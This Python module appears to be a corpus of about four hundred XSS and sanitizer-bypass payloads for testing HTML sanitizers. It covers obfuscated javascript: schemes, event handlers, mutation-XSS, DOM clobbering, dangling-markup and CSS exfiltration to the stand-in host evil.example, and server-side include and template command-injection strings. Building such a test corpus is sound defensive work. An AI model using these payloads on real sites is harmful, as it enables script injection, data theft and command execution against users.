"""Markup that runs code, loads external resources or takes over a page unless sanitized: about four hundred vectors.

Grouped by technique, as published research on sanitizers and browsers names them. Each says `window.__hit = 1` where it
would run, or asks `evil.example` where it would load, so that a browser can tell whether one of them did.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import chain

HIT = "window.__hit=1"
ELSEWHERE = "https://evil.example"
_IMG = f"<img src=x onerror={HIT}>"

_EVENTS = """
abort afterprint afterscriptexecute animationcancel animationend animationiteration animationstart auxclick
beforecopy beforecut beforeinput beforematch beforepaste beforeprint beforescriptexecute beforetoggle beforeunload
begin blur bounce cancel canplay canplaythrough change click close contentvisibilityautostatechange contextmenu copy
cuechange cut dblclick drag dragend dragenter dragexit dragleave dragover dragstart drop durationchange emptied end
ended error finish focus focusin focusout formdata fullscreenchange fullscreenerror gotpointercapture hashchange help
input invalid keydown keypress keyup load loadeddata loadedmetadata loadend loadstart lostpointercapture message
messageerror mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel mozfullscreenchange
pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout
pointerover pointerrawupdate pointerup popstate progress propertychange ratechange readystatechange repeat reset
resize scroll scrollend scrollsnapchange search securitypolicyviolation seeked seeking select selectionchange
selectstart show slotchange stalled start submit suspend timeupdate toggle touchcancel touchend touchmove touchstart
transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting
webkitanimationend webkitmouseforcechanged webkittransitionend wheel
"""
EVENTS = _EVENTS.split()

# "javascript:" as browsers still read it, or once did.
SCRIPT_SCHEMES = {
    "plain": "javascript:",
    "mixed case": "jAvAsCrIpT:",
    "tab within": "java\tscript:",
    "line feed within": "java\nscript:",
    "carriage return within": "java\rscript:",
    "tab before the colon": "javascript\t:",
    "space before": " javascript:",
    "controls before": "\x01\x02\x1f javascript:",
    "form feed before": "\x0cjavascript:",
    "NUL within": "java\0script:",
    "no-break space before": "\xa0javascript:",
    "byte order mark before": "\ufeffjavascript:",
    "ideographic space before": "\u3000javascript:",
    "line separator before": "\u2028javascript:",
    "soft hyphen within": "java\xadscript:",
    "zero-width space within": "java\u200bscript:",
    "full-width letters": "ｊａｖａｓｃｒｉｐｔ:",
    "full-width colon": "javascript：",
    "long s": "javaſcript:",
    "decimal references": "".join(f"&#{ord(char)};" for char in "javascript:"),
    "decimal references without semicolons": "".join(f"&#{ord(char)}" for char in "javascript:"),
    "padded references": "".join(f"&#{ord(char):07}" for char in "javascript:"),
    "hexadecimal references": "".join(f"&#x{ord(char):x};" for char in "javascript:"),
    "upper-case hexadecimal references": "".join(f"&#X{ord(char):X}" for char in "javascript:"),
    "named colon": "javascript&colon;",
    "named tab": "java&Tab;script:",
    "named line feed": "java&NewLine;script:",
    "reference to a control before": "&#1;javascript:",
    "reference to NUL within": "java&#0;script:",
    "percent-encoded": "%6Aavascript:",
    "percent-encoded colon": "javascript%3A",
    "twice escaped": "&amp;#106;avascript:",
    "behind another scheme": "feed:javascript:",
    "behind view-source": "view-source:javascript:",
    "behind jar": "jar:javascript:",
    "with slashes": "javascript://%0a",
    "as if a host": "javascript://paper.example/%0d%0a",
    "vbscript": "vbscript:",
    "livescript": "livescript:",
    "mocha": "mocha:",
    "data as HTML": "data:text/html,<script>parent.__hit=1</script>",
    "data as HTML in base 64": "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19oaXQ9MTwvc2NyaXB0Pg==",
    "data as XHTML": "data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>1</script></html>",
    "data as SVG": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.__hit=1'/>",
    "data without a type": "data:,<script>parent.__hit=1</script>",
    "data with a charset": "data:text/html;charset=utf-7,+ADw-script+AD4-parent.__hit+AD0-1+ADw-/script+AD4-",
    "data as XSLT": "data:text/xsl,<x/>",
    "blob": "blob:https://paper.example/1",
    "filesystem": "filesystem:https://paper.example/temporary/x.html",
    "file": "file:///etc/passwd",
    "about": "about:srcdoc",
    "intent": "intent://x#Intent;scheme=javascript;end",
}
# Where a URL may stand: `{}` is it.
URL_PLACES = {
    "link": '<a href="{}">x</a>',
    "link without quotes": "<a href={}>x</a>",
    "link in single quotes": "<a href='{}'>x</a>",
    "image": '<img src="{}">',
    "late image": '<img data-src="{}" src="/a.png">',
    "set of sources": '<img srcset="{} 1x, /b.png 2x" src="/a.png">',
    "picture": '<picture><source srcset="{}"><img src="/a.png"></picture>',
    "film": '<video src="{}" poster="{}" controls></video>',
    "source of a film": '<video controls><source src="{}" type="video/mp4"></video>',
    "captions": '<video src="/v.mp4"><track default src="{}"></video>',
    "frame": '<iframe src="{}"></iframe>',
    "old frame": '<frameset><frame src="{}"></frameset>',
    "object": '<object data="{}" type="text/html"></object>',
    "embed": '<embed src="{}">',
    "applet": '<applet code="{}" archive="{}"></applet>',
    "form": '<form action="{}"><input type=submit></form>',
    "button of a form": '<form><button formaction="{}">x</button></form>',
    "picture as a button": '<form><input type=image src="/a.png" formaction="{}"></form>',
    "index of old": '<isindex action="{}" type=submit>',
    "base": '<base href="{}//"><a href="x">x</a>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url={}">',
    "style sheet": '<link rel="stylesheet" href="{}">',
    "import": '<link rel="import" href="{}">',
    "prefetch": '<link rel="prefetch" href="{}">',
    "area of a map": '<map name=m><area shape=default href="{}"></map><img usemap="#m" src="/a.png">',
    "background": '<table background="{}"><tr><td background="{}">x</table>',
    "body's background": '<body background="{}">x',
    "citation": '<blockquote cite="{}">x</blockquote><q cite="{}">y</q><del cite="{}">z</del>',
    "long description": '<img src="/a.png" longdesc="{}" dynsrc="{}" lowsrc="{}">',
    "ping": '<a href="/x" ping="{}">x</a>',
    "manifest": '<html manifest="{}">x',
    "profile": '<head profile="{}"></head>x',
    "SVG link": '<svg><a xlink:href="{}"><text y=20>x</text></a></svg>',
    "SVG link without a prefix": '<svg><a href="{}"><rect width=9 height=9 /></a></svg>',
    "SVG picture": '<svg><image xlink:href="{}" href="{}" /></svg>',
    "SVG use": '<svg><use href="{}#x" xlink:href="{}#x" /></svg>',
    "SVG script": '<svg><script href="{}" xlink:href="{}" /></svg>',
    "SVG animation": '<svg><a><animate attributeName=href values="{}" begin=0s /><text y=9>x</text></a></svg>',
    "SVG set": '<svg><a><set attributeName=xlink:href to="{}" /><text y=9>x</text></a></svg>',
    "SVG filter": '<svg><filter><feImage href="{}" /></filter></svg>',
    "MathML link": '<math href="{}">x</math>',
    "MathML action": '<math><maction actiontype="statusline#{}" xlink:href="{}">x</maction></math>',
    "MathML token": '<math><mi xlink:href="{}">x</mi></math>',
    "portal": '<portal src="{}"></portal><fencedframe src="{}"></fencedframe>',
    "XML style sheet": '<?xml-stylesheet href="{}"?>x',
    "XML include": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{}" />',
    "htmx": '<div hx-get="{}" data-hx-get="{}" hx-trigger="load">x</div>',
    "model": '<model src="{}"></model><link itemprop=x href="{}">',
}
_BREAKERS = ("script", "style", "title", "textarea", "noscript", "noembed", "noframes", "iframe", "xmp", "template")
_FOREIGN = ("svg", "math")
_INTEGRATION = (
    "<svg><foreignObject>", "<svg><desc>", "<svg><title>", "<math><mi>", "<math><mo>", "<math><mn>", "<math><ms>",
    "<math><mtext>", '<math><annotation-xml encoding="text/html">',
    '<math><annotation-xml encoding="application/xhtml+xml">',
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Vector:
    """One attempt; `technique` and `id` together are unique."""

    technique: str
    id: str
    markup: str


def _named(technique: str, table: dict[str, str]) -> Iterator[Vector]:
    return (Vector(technique, name, markup) for name, markup in table.items())


def _events() -> Iterator[Vector]:
    for event in EVENTS:
        yield Vector("event handler", event, f"<p on{event}={HIT}>x</p><img src=/a.png on{event}='{HIT}'>")


def _script_urls() -> Iterator[Vector]:
    for name, scheme in SCRIPT_SCHEMES.items():
        yield Vector("scheme", name, f'<a href="{scheme}{HIT}">x</a><img src="{scheme}{HIT}">')
    for name, place in URL_PLACES.items():
        yield Vector("place of a URL", name, place.replace("{}", f"javascript:{HIT}"))
        if not any(word in name for word in ("link", "image", "set of", "picture", "film", "citation")):
            yield Vector("loads from elsewhere", name, place.replace("{}", f"{ELSEWHERE}/x"))


def _mutations() -> Iterator[Vector]:
    """What two parsers read differently: raw text that ends where another parser does not expect it."""
    for name in _BREAKERS:
        yield Vector("raw text", f"{name} ends in a value", f'<{name}><a title="</{name}>{_IMG}">x</a></{name}>')
        yield Vector("raw text", f"{name} unclosed", f"<{name}>{_IMG}")
        for foreign in _FOREIGN:
            yield Vector(
                "mutation", f"{name} in {foreign}", f'<{foreign}></p><{name}><a id="</{name}>{_IMG}">x</{foreign}>'
            )
    for start in _INTEGRATION:
        yield Vector("namespace", start, f"{start}<script>{HIT}</script>{_IMG}")
        yield Vector("namespace", f"{start} style", f'{start}<style><!--</style><a title="--&gt;{_IMG}">')


_SCRIPTS = {
    "plain": f"<script>{HIT}</script>",
    "upper case": f"<SCRIPT>{HIT}</SCRIPT>",
    "space in the end tag": f"<script>{HIT}</script >",
    "attributes in the end tag": f"<script>{HIT}</script foo=bar>",
    "slash": f"<script/x>{HIT}</script>",
    "line end in the tag": f"<script\n>{HIT}</script\n>",
    "form feed in the tag": f"<script\x0c>{HIT}</script>",
    "from elsewhere": f"<script src={ELSEWHERE}/x.js></script>",
    "from elsewhere without a scheme": "<script src=//evil.example/x.js></script>",
    "from data": "<script src='data:text/javascript,window.__hit=1'></script>",
    "as a module": f"<script type=module>{HIT}</script>",
    "import map": '<script type=importmap>{"imports": {"x": "https://evil.example/x.js"}}</script>',
    "speculation": f'<script type=speculationrules>{{"prefetch": [{{"urls": ["{ELSEWHERE}/p"]}}]}}</script>',
    "without a type": f"<script type=''>{HIT}</script>",
    "language": f"<script language=jscript>{HIT}</script>",
    "for and event": f"<script for=window event=onload>{HIT}</script>",
    "unclosed": f"<script>{HIT}",
    "unclosed tag": f"<script src={ELSEWHERE}/x.js ",
    "rejoined": f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    "rejoined around": f"<scr<script></script>ipt>{HIT}</script>",
    "rejoined by a comment": f"<scr<!---->ipt>{HIT}</script>",
    "rejoined by NUL": f"<scr\0ipt>{HIT}</scr\0ipt>",
    "rejoined by a control": f"<scr\x08ipt>{HIT}</script>",
    "rejoined by a surrogate": f"<scr\ud800ipt>{HIT}</script>",
    "double bracket": f"<<script>{HIT}//<</script>",
    "full-width brackets": f"＜script＞{HIT}＜/script＞",
    "small brackets": f"﹤script﹥{HIT}﹤/script﹥",
    "dotless i": f"<scrıpt>{HIT}</scrıpt>",
    "long s": f"<ſcript>{HIT}</ſcript>",
    "prefixed": f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{HIT}</x:script>",
    "escaped comment within": f"<script><!--<script>{HIT}</script>--></script>",
    "two states": f"<script><!--\n<script\n>{HIT}</script><img src=x onerror={HIT}>",
    "escaped once": f"&lt;script&gt;{HIT}&lt;/script&gt;",
    "escaped twice": f"&amp;lt;script&amp;gt;{HIT}&amp;lt;/script&amp;gt;",
    "escaped without semicolons": f"&lt script &gt {HIT} &lt/script &gt",
    "escaped by numbers": f"&#60script&#62{HIT}&#60/script&#62",
    "UTF-7": "+ADw-script+AD4-window.__hit=1+ADw-/script+AD4-",
    "ISO-2022-JP": f"\x1b$B<script>{HIT}</script>\x1b(B",
    "US-ASCII with the high bit": "¼script¾window.__hit=1¼/script¾",
    "overlong UTF-8 read as Latin": "À¼scriptÀ¾",
}
_ATTRIBUTES = {
    "slashes for spaces": f"<img/src=x/onerror={HIT}>",
    "no space after a quote": f'<img src="x"onerror={HIT}>',
    "form feed": f"<img\x0csrc=x\x0conerror={HIT}>",
    "vertical tab": f"<img\x0bsrc=x\x0bonerror={HIT}>",
    "space around the sign": f"<img src=x onerror = {HIT}>",
    "back quotes": f"<img src=x onerror=`{HIT}`>",
    "references in the value": f"<img src=x onerror=&#119;indow.__hit&equals;1>{HIT}",
    "NUL in the name": f"<img src=x on\0error={HIT}>",
    "twice, first harmless": f"<a href=/x href=javascript:{HIT} title=a onclick=1 onclick={HIT}>x</a>",
    "twice in two cases": f"<img src=x ONERROR=1 onError={HIT}>",
    "quote breaks out": f'<a title="&quot; onmouseover={HIT} x=&quot;">x</a>',
    "quote breaks out of single ones": f"<a href='/x&#39; onclick={HIT} y=&#39;'>x</a>",
    "back quotes break out": f"<img alt='``onerror={HIT}' src=/a.png>",
    "angle bracket in a value": f'<a title="</a>{_IMG}">x</a>',
    "unclosed value": f'<a href="/x{_IMG}',
    "unclosed value closed later": f'<img alt="x>{_IMG}" src=/a.png>',
    "end tag with attributes": f"</p onclick={HIT}><p>x",
    "name of symbols": f"<img src=x \"'onerror={HIT}>",
    "equals first": f"<img src=x =onerror={HIT}>",
    "language breaks out": f"<p lang='en\" onclick=\"{HIT}'>x</p>",
    "set of sources breaks out": f"<img src=/a.png srcset='/b.png\"onerror={HIT} 1x'>",
    "size breaks out": f"<img src=/a.png width='1\"onerror={HIT}'>",
    "date breaks out": f"<time datetime='2026\"onclick={HIT}'>x</time>",
    "type breaks out": f"<video controls><source src=/v.mp4 type='video/mp4\"onerror={HIT}'></video>",
    "namespaced": f"<img src=x xmlns:on='x' on:error={HIT} xml:onerror={HIT}>",
    "behaviours of frameworks": f"<div x-init='{HIT}' v-on:click='{HIT}' @click='{HIT}' hx-on='{HIT}'>x</div>",
    "popover": f"<button popovertarget=x>x</button><p popover id=x onbeforetoggle={HIT}>y</p>",
    "is": f"<p is=my-widget onclick={HIT}>x</p>",
    "slot and part": "<p slot=x part=y exportparts=z>x</p>",
    "editable": f"<p contenteditable autofocus onfocus={HIT}>x</p>",
    "access key": f"<a href=/x accesskey=x onclick={HIT}>x</a>",
}
_STYLES = {
    "expression": f"<p style='width:expression({HIT})'>x</p>",
    "expression behind a comment": f"<p style='width:expre/**/ssion({HIT})'>x</p>",
    "expression by escapes": f"<p style='width:e\\78pression({HIT})'>x</p>",
    "expression full-width": f"<p style='width:ｅｘｐｒｅｓｓｉｏｎ({HIT})'>x</p>",
    "url": f"<p style='background:url({ELSEWHERE}/p.png)'>x</p>",
    "script in a url": f"<p style='background:url(javascript:{HIT})'>x</p>",
    "binding": f"<p style='-moz-binding:url({ELSEWHERE}/x.xml#y)'>x</p>",
    "behaviour": f"<p style='behavior:url({ELSEWHERE}/x.htc)'>x</p>",
    "import": f"<style>@import '{ELSEWHERE}/x.css';</style>",
    "import without an end": f"<style>@import '{ELSEWHERE}/x.css'",
    "font": f"<style>@font-face{{font-family:x;src:url({ELSEWHERE}/x.woff)}}p{{font-family:x}}</style>",
    "reading values": f"<style>input[value^=a]{{background:url({ELSEWHERE}/a)}}</style>",
    "overlay": f"<a style='position:fixed;inset:0;z-index:9999' href='{ELSEWHERE}'>x</a>",
    "animation": f"<style>@keyframes x{{}}</style><p style='animation:x' onanimationend={HIT}>x</p>",
    "link of the kind": f"<link rel='stylesheet' href='{ELSEWHERE}/x.css'>",
    "link twice a kind": f"<link rel='alternate stylesheet' href='{ELSEWHERE}/x.css'>",
    "meta": f"<meta http-equiv=Link content='<{ELSEWHERE}/x.css>; rel=stylesheet'>",
    "closing inside": f"<style><!--</style>{_IMG}--></style>",
    "class of ours": "<div class='dialog overlay' hidden>x</div>",
}
_COMMENTS = {
    "closed by a mark": f"<!--x--!>{_IMG}-->",
    "closed at once": f"<!-->{_IMG}-->",
    "closed at once with a hyphen": f"<!--->{_IMG}-->",
    "nested": f"<!-- <!-- -->{_IMG} -->",
    "bogus": f"<!x>{_IMG}",
    "bogus end tag": f"</ x>{_IMG}",
    "question mark": f"<?x ?>{_IMG}<?php echo 1 ?>",
    "per cent": f"<% x %>{_IMG}",
    "conditional": f"<!--[if gte IE 4]><script>{HIT}</script><![endif]-->",
    "revealed": f"<![if !IE]>{_IMG}<![endif]>",
    "CDATA": f"<![CDATA[<script>{HIT}</script>]]>",
    "CDATA ends in a tag": f"<![CDATA[><img src=x onerror={HIT}>]]>",
    "CDATA in SVG": f"<svg><![CDATA[><image xlink:href='x' onerror={HIT} />]]></svg>",
    "CDATA in SVG's style": f"<svg><style><![CDATA[</style>{_IMG}]]></style></svg>",
    "doctype with an entity": f'<!DOCTYPE x [<!ENTITY y "<script>{HIT}</script>">]>&y;',
    "xss tag": "<xss style='xss:expression(1)'>x</xss><listing>&lt;img src=x onerror=window.__hit=1&gt;</listing>",
    "in a comment in MathML": f"<math><!--</math>{_IMG}-->",
    "hyphens in noscript": f"<noscript><!--</noscript>{_IMG}--></noscript>",
}
_TREES = {
    "table takes out": f"<table><p>x<script>{HIT}</script>{_IMG}<tr><td>y</table>",
    "links within links": f"<a href=/1><table><tr><td><a href=javascript:{HIT}>x</table></a>",
    "form in MathML in a form": f"<form><math><mtext></form><form><mglyph><style></math>{_IMG}",
    "table in MathML": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{_IMG}'>",
    "malignmark": f"<math><mtext><table><malignmark><style><!--</style><img title='--&gt;{_IMG}'>",
    "option in select": f"<select><option><style></option></select>{_IMG}</style>",
    "template in select": f"<select><template><style></select>{_IMG}</style>",
    "keygen in select": f"<select><keygen><script>{HIT}</script></select>",
    "svg in p in svg": f"<svg><p><style><g title='</style>{_IMG}'>",
    "title in svg": f"<svg><title><style><img title='</style>{_IMG}'></title></svg>",
    "foreign object and iframe": f"<svg><foreignObject><iframe srcdoc='<script>parent.{HIT}</script>'></iframe></svg>",
    "iframe with its own document": f"<iframe srcdoc='<script>parent.__hit=1</script>{_IMG}'></iframe>",
    "iframe on its own": "<iframe sandbox='allow-scripts allow-top-navigation' src='//evil.example'></iframe>",
    "deep elements": "<div>" * 600 + _IMG + "</div>" * 600,
    "deep formatting": "<b>" * 600 + f"<p>{_IMG}",
    "deep quotations": "<blockquote>" * 520 + f"<style><a title='</style>{_IMG}'>",
    "deep links": "<a href=/x>" * 300 + _IMG,
    "deep tables": "<table><tr><td>" * 200 + _IMG,
    "deep SVG": "<svg><g>" * 260 + f"<style><img title='</style>{_IMG}'>",
    "body and html anew": f"<body onload={HIT}><html onclick={HIT}>x",
    "head anew": f"<head><script>{HIT}</script></head>x",
    "frameset": f"<frameset onload={HIT}><frame src='javascript:{HIT}'></frameset>",
    "shadow root": f"<div><template shadowrootmode=open>{_IMG}<script>{HIT}</script></template></div>",
    "plaintext": f"<plaintext>{_IMG}",
    "image for img": f"<image src=x onerror={HIT}>",
    "marquee": f"<marquee onstart={HIT} loop=1>x</marquee>",
    "details": f"<details open ontoggle={HIT}><summary>x</summary></details>",
    "dialog": f"<dialog open onclose={HIT}><form method=dialog><button autofocus>x</button></form></dialog>",
    "unclosed tag": f"<img src=x onerror={HIT}",
    "unclosed tag before more": f"<img src=x onerror={HIT} <p>x</p>",
    "custom element": f"<my-widget onclick={HIT}>x</my-widget>",
    "media that fails": f"<audio src=x onerror={HIT}></audio><video><source onerror={HIT}></video>",
    "object that fails": f"<object data=x onerror={HIT}>{_IMG}</object>",
    "input that is focused": f"<input autofocus onfocus={HIT}><textarea autofocus onfocus={HIT}></textarea>",
}
_CLOBBERING = {
    f"{attribute} {name}": f'<img {attribute}="{name}" src="/a.png"><a {attribute}="{name}" href="/x">x</a>'
    for attribute in ("id", "name")
    for name in ("body", "cookie", "getElementById", "querySelector", "location", "htmx", "forms", "__proto__", "csrf")
} | {
    "form with fields": "<form id=x name=attributes><input name=parentNode><input name=innerHTML></form>",
    "collection": "<a id=config></a><a id=config name=url href='//evil.example/x'></a>",
    "output": "<form id=x><output id=y>//evil.example</output></form>",
    "for attribute": "<label for=search>x</label><output for=search>y</output>",
}
_DANGLING = {
    "picture": f"<img src='{ELSEWHERE}/?",
    "picture in double quotes": f'<img src="{ELSEWHERE}/?',
    "link": f"<a href='{ELSEWHERE}/?",
    "form": f"<form action='{ELSEWHERE}'><textarea name=x>",
    "select": f"<form action='{ELSEWHERE}'><select name=x><option>",
    "base target": "<base target='",
    "button of another form": f"<button form=search formaction='{ELSEWHERE}'>x</button>",
    "target": f"<a href='{ELSEWHERE}' target=_blank>x</a>",
    "target with an opener": f"<a href='{ELSEWHERE}' target=x rel=opener>x</a>",
    "download": f"<a href='{ELSEWHERE}' download=x.exe>x</a>",
    "referrer": f"<a href='{ELSEWHERE}' referrerpolicy=unsafe-url>x</a>",
    "meta policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "meta cookie": "<meta http-equiv=Set-Cookie content='sessionid=x'>",
    "meta referrer": "<meta name=referrer content=unsafe-url>",
    "meta charset": "<meta charset=utf-7>+ADw-img src+AD0-x onerror+AD0-window.__hit+AD0-1+AD4-",
    "meta viewport": "<meta name=viewport content='width=9999'>",
}
_TEMPLATES = {
    "double braces": "{{ 7|add:7 }}{{constructor.constructor('window.__hit=1')()}}",
    "Django's tags": "{% load static %}{% include 'base.html' %}{% csrf_token %}",
    "dollar braces": "${window.__hit=1}#{window.__hit=1}*{window.__hit=1}",
    "server side include": '<!--#exec cmd="id"--><esi:include src="https://evil.example/" />',
    "erb": "<%= `id` %>",
}  # fmt: skip

VECTORS = tuple(
    chain(
        _named("script", _SCRIPTS), _events(), _script_urls(), _named("attribute", _ATTRIBUTES),
        _named("style", _STYLES), _named("comment", _COMMENTS), _mutations(), _named("tree", _TREES),
        _named("clobbering", _CLOBBERING), _named("dangling", _DANGLING), _named("template", _TEMPLATES),
    )
)  # fmt: skip
